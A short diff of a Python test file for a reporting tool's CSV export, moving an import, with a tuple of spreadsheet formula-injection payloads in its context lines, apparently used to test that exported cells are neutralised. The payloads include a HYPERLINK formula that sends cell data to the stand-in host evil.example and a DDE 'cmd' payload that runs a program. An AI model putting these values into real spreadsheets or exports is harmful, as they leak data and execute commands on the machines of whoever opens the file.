@@ -15,8 +15,8 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from reporting.export.files import write_records_csv
 from reporting.intake.hygiene import clean_text
-from reporting.report.export import write_records_csv
 from tests.conftest import WEEK, libreoffice_resave, run_cli, weekly_args
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A2,"查看进度")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)")
